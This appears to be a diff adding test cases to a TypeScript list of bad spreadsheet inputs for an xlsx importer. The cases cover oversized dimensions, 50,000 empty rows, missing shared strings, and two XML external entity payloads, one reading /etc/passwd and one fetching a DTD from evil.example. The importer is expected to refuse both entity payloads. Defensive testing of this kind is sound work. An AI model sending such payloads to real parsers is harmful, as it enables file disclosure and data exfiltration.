@@ -48,6 +48,63 @@ export const WORKBOOKS: readonly BadInput[] = [
     }),
     NO_SHEET,
   ),
+  imported(
+    'a sheet said to have all rows and columns there can be',
+    'a.xlsx',
+    sheetOf(SHEET.replace('<sheetData>', '<dimension ref="A1:XFD1048576"/><sheetData>')),
+    { created: 1 },
+    { words: ['words'] },
+  ),
+  imported(
+    'a sheet of 50,000 empty rows, and one behind them',
+    'a.xlsx',
+    sheetOf(
+      SHEET.replace(
+        '</sheetData>',
+        `${Array.from({ length: 50_000 }, (_, at) => `<row r="${at + 3}" ht="${at * 7919}"/>`).join('')}<row r="1048576">${text('A1048576', '2')}${text('B1048576', 'last')}</row></sheetData>`,
+      ),
+    ),
+    { created: 2 },
+    {
+      items: [
+        { verbatim: 'words', line: 2 },
+        { verbatim: 'last', line: 1_048_576 },
+      ],
+    },
+  ),
+  refused(
+    'a workbook without its shared texts',
+    'a.xlsx',
+    workbook({ 'xl/sharedStrings.xml': null }),
+    DAMAGED,
+  ),
+  imported(
+    'a workbook whose sheet has its texts within, without shared ones',
+    'a.xlsx',
+    workbook({
+      'xl/sharedStrings.xml': null,
+      'xl/worksheets/sheet1.xml': rows(
+        `${text('A1', 'id')}${text('B1', 'comment')}`,
+        `${text('A2', '1')}${text('B2', 'words')}`,
+      ),
+    }),
+    { created: 1 },
+    { words: ['words'] },
+  ),
+  refused(
+    'an entity that reads a file in an attribute',
+    'a.xlsx',
+    sheetOf(`<!DOCTYPE x [<!ENTITY f SYSTEM "file:///etc/passwd">]>${SHEET.replace('t="s"', 't="&f;"')}`),
+    DAMAGED,
+  ),
+  refused(
+    'an entity of parameters that reads the net',
+    'a.xlsx',
+    sheetOf(
+      `<!DOCTYPE x [<!ENTITY % f SYSTEM "http://evil.example/x.dtd"> %f;]>${SHEET.replace('>1<', '>&g;<')}`,
+    ),
+    DAMAGED,
+  ),
   refused('a sheet without rows', 'a.xlsx', sheetOf(rows()), NO_ROWS),
   refused(
     'a sheet of empty cells',
